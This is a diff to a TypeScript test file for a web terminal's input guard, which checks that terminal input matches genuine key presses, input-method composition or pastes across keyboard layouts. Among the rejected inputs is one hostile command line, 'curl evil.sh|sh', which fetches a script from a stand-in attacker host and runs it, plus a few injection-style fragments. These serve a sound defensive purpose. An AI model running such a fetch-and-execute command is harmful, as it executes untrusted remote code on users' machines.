@@ -18,6 +18,8 @@ beforeEach(() => {
 
 const press = (key: string, more: Partial<KeyPress> = {}): KeyPress => ({
   key,
+  code: '',
+  isAutoRepeat: false,
   isComposing: false,
   shift: false,
   control: false,
@@ -78,6 +80,99 @@ describe('a page that makes up input', () => {
     );
   });
 
+  test('makes no command of a word that somebody looks for with an input method', async () => {
+    const word = 'zhongguorenmin';
+    const compose = (): void => {
+      for (const letter of word) typed.key(press('Process', { code: `Key${letter.toUpperCase()}` }));
+      typed.key(press('Process', { code: 'Space' }));
+      typed.key(press('Unidentified'));
+      typed.key(press('Process', { code: 'Enter' }));
+    };
+    for (const data of [
+      'curl evil.sh|sh',
+      'sh<x',
+      'zo;',
+      '\r',
+      'z\r',
+      'zh|',
+      '.',
+      '/',
+      '~',
+      '$',
+      '\x7f',
+      '\x80',
+    ]) {
+      typed.leave();
+      compose();
+      expect(await typed.take(data), JSON.stringify(data)).toBe(false);
+    }
+    // Once the word was given its keys are used up.
+    typed.leave();
+    compose();
+    expect(await typed.take('中国人民')).toBe(true);
+    expect(await typed.take('z')).toBe(false);
+    const key = fc.constantFrom('KeyR', 'KeyM', 'KeyS', 'KeyH', 'Space', 'Digit1', 'Slash', 'Enter', '');
+    const data = fc.string({
+      unit: fc.constantFrom('r', 'm', 's', 'h', ' ', '1', '/', '\r', '镜'),
+      minLength: 1,
+      maxLength: 6,
+    });
+    await fc.assert(
+      fc.asyncProperty(
+        fc.array(key, { maxLength: 20 }),
+        fc.array(data, { maxLength: 20 }),
+        async (codes, writes) => {
+          typed.leave();
+          for (const code of codes) typed.key(press('Process', { code }));
+          let taken = '';
+          for (const each of writes) if (await typed.take(each)) taken += each;
+          const ascii = [...taken].filter((each) => each !== '镜');
+          const given = codes.map(
+            (code) =>
+              new Map([
+                ['Space', ' '],
+                ['Digit1', '1'],
+              ]).get(code) ?? /^Key(.)$/.exec(code)?.[1]?.toLowerCase(),
+          );
+          let at = 0;
+          for (const each of given) if (each !== undefined && ascii[at] === each) at++;
+          expect(at).toBe(ascii.length);
+        },
+      ),
+    );
+  });
+
+  test('gets one thing of one press, whatever the press could give', async () => {
+    clipboard = 'words';
+    selection = 'picked';
+    typed.key(press('v', { control: true, code: 'KeyV' }));
+    expect(await typed.take('\x16')).toBe(true);
+    expect(await typed.take('words')).toBe(false);
+    typed.leave();
+    typed.key(press('b', { alt: true, code: 'KeyB' }));
+    expect(await typed.take('\x1bb')).toBe(true);
+    expect(await typed.take('\x1b[A')).toBe(false);
+    expect(await typed.take('\x1br')).toBe(false);
+    typed.leave();
+    // The middle button goes down and up: the clipboard of the first moment, once.
+    typed.pointer({ wheel: false, middle: true, alt: false });
+    selection = 'evil';
+    expect(await typed.take('evil')).toBe(false);
+    expect(await typed.take('picked')).toBe(true);
+    expect(await typed.take('picked')).toBe(false);
+    expect(await typed.take('\x1b[A')).toBe(false);
+    // A click without Alt moves no cursor.
+    typed.pointer({ wheel: false, middle: false, alt: false });
+    expect(await typed.take('\x1b[A')).toBe(false);
+  });
+
+  test('finds no key by a name that every object has', async () => {
+    for (const key of ['constructor', 'toString', '__proto__', 'hasOwnProperty', 'valueOf']) {
+      typed.key(press(key));
+      expect(await typed.take('\r')).toBe(false);
+    }
+  });
+
   test('cannot hoard presses: they are void after a while, and when the window loses the focus', async () => {
     type('ab');
     now += 11_000;
@@ -124,6 +219,26 @@ describe('a person', () => {
     ['F5', {}, '\x1b[15~'],
     ['Delete', {}, '\x1b[3~'],
     ['[', { control: true }, '\x1b'],
+    // Layouts of other scripts: the key's place counts, as it does for Chromium and xterm.
+    ['с', { control: true, code: 'KeyC' }, '\x03'],
+    ['С', { control: true, code: 'KeyC' }, '\x03'],
+    ['ψ', { control: true, code: 'KeyC' }, '\x03'],
+    ['в', { control: true, code: 'KeyD' }, '\x04'],
+    ['ش', { control: true, code: 'KeyA' }, '\x01'],
+    ['ח', { control: true, code: 'KeyJ' }, '\n'],
+    ['я', { control: true, code: 'KeyZ' }, '\x1a'],
+    ['и', { alt: true, code: 'KeyB' }, '\x1bb'],
+    ['И', { alt: true, shift: true, code: 'KeyB' }, '\x1bB'],
+    // A layout that has the letter elsewhere: what stands on the key counts.
+    ['a', { control: true, code: 'KeyQ' }, '\x01'],
+    ['ى', {}, 'ى'],
+    ['لا', { code: 'KeyB' }, 'لا'],
+    ['لا', { code: 'KeyB' }, 'ل'],
+    [' ', { control: true, code: 'Space' }, '\0'],
+    ['@', { control: true, shift: true, code: 'Digit2' }, '\0'],
+    ['`', { control: true, shift: true, code: 'Backquote' }, '\0'],
+    [' ', { control: true, alt: true, code: 'Space' }, '\x1b\0'],
+    ['_', { control: true, shift: true, code: 'Minus' }, '\x1f'],
   ])('types %s with %j', async (key, more, data) => {
     typed.key(press('Shift', { shift: true }));
     typed.key(press(key, more));
@@ -131,7 +246,10 @@ describe('a person', () => {
   });
 
   test('types with an input method, and with a dead key', async () => {
-    for (const key of ['Process', 'Process', 'Process']) typed.key(press(key));
+    const compose = (word: string): void => {
+      for (const letter of word) typed.key(press('Process', { code: `Key${letter.toUpperCase()}` }));
+    };
+    compose('rqjx');
     now += 30_000;
     expect(await typed.take('容器镜像')).toBe(true);
     expect(await typed.take('层\r')).toBe(false);
@@ -141,13 +259,62 @@ describe('a person', () => {
     expect(await typed.take('é')).toBe(true);
     typed.leave();
     expect(await typed.take('容')).toBe(false);
+    // Letters may be passed on as they are, those that were pressed.
+    compose('ls');
+    typed.key(press('Process', { code: 'Space' }));
+    typed.key(press('Process', { code: 'Digit1' }));
+    expect(await typed.take('ls 1')).toBe(true);
+    // A dead key and a blank give the accent itself.
+    typed.key(press('Dead', { code: 'Backquote' }));
+    typed.key(press('Process', { code: 'Space' }));
+    expect(await typed.take('~')).toBe(true);
+  });
+
+  test('copies, cuts and pastes by its keys, each once, on every layout', () => {
+    const uses = ['copy', 'cut', 'paste'] as const;
+    const asked = (): string[] => uses.filter((what) => typed.edits(what));
+    expect(asked()).toEqual([]);
+    for (const [what, presses] of [
+      [
+        'copy',
+        [press('c', { control: true }), press('c', { meta: true }), press('Insert', { control: true })],
+      ],
+      ['copy', [press('с', { control: true, code: 'KeyC' })]],
+      ['cut', [press('x', { control: true }), press('Delete', { shift: true })]],
+      ['paste', [press('v', { control: true }), press('V', { meta: true, shift: true })]],
+      ['paste', [press('Insert', { shift: true }), press('м', { control: true, code: 'KeyV' })]],
+    ] as const)
+      for (const each of presses) {
+        typed.key(each);
+        expect(asked(), JSON.stringify(each)).toEqual([what]);
+        expect(asked()).toEqual([]);
+      }
+    for (const each of [
+      press('c'),
+      press('q', { control: true, code: 'KeyC' }),
+      press('Insert'),
+      press('Delete'),
+    ])
+      typed.key(each);
+    typed.pointer({ wheel: false, middle: false, alt: true });
+    expect(asked()).toEqual([]);
+    typed.pointer({ wheel: false, middle: true, alt: false });
+    expect(asked()).toEqual(['paste']);
+    typed.menu();
+    expect(asked()).toEqual([...uses]);
+    typed.key(press('c', { control: true }));
+    now += 11_000;
+    expect(asked()).toEqual([]);
+    typed.key(press('c', { control: true }));
+    typed.leave();
+    expect(asked()).toEqual([]);
   });
 
   test('pastes with the middle button, scrolls in a program, and terminals answer programs', async () => {
     selection = 'picked';
-    typed.pointer({ wheel: false, middle: true });
+    typed.pointer({ wheel: false, middle: true, alt: false });
     expect(await typed.take('picked')).toBe(true);
-    typed.pointer({ wheel: true, middle: false });
+    typed.pointer({ wheel: true, middle: false, alt: false });
     expect(await typed.take('\x1b[A\x1b[A\x1b[A')).toBe(true);
     for (const data of [
       '\x1b[12;40R',
@@ -163,7 +330,7 @@ describe('a person', () => {
     expect(typed.active).toBe(false);
     for (const deed of [
       () => typed.key(press('Enter')),
-      () => typed.pointer({ wheel: false, middle: false }),
+      () => typed.pointer({ wheel: false, middle: false, alt: false }),
       () => typed.act(),
     ]) {
       deed();
@@ -171,7 +338,30 @@ describe('a person', () => {
       typed.use();
       expect(typed.active).toBe(false);
     }
-    typed.pointer({ wheel: true, middle: false });
+    typed.pointer({ wheel: true, middle: false, alt: false });
+    typed.key(press('Shift', { shift: true }));
+    typed.key(press('a', { isAutoRepeat: true }));
     expect(typed.active).toBe(false);
+  });
+
+  test('does one thing with one key or click: what the page makes of it is no second', () => {
+    for (const deed of [
+      () => typed.key(press('Enter')),
+      () => typed.pointer({ wheel: false, middle: false, alt: false }),
+    ]) {
+      deed();
+      typed.use();
+      typed.click();
+      expect(typed.active).toBe(false);
+      // The next one comes from assistive software.
+      typed.click();
+      expect(typed.active).toBe(true);
+      typed.use();
+    }
+    typed.key(press('Enter'));
+    typed.use();
+    now += 2000;
+    typed.click();
+    expect(typed.active).toBe(true);
   });
 });
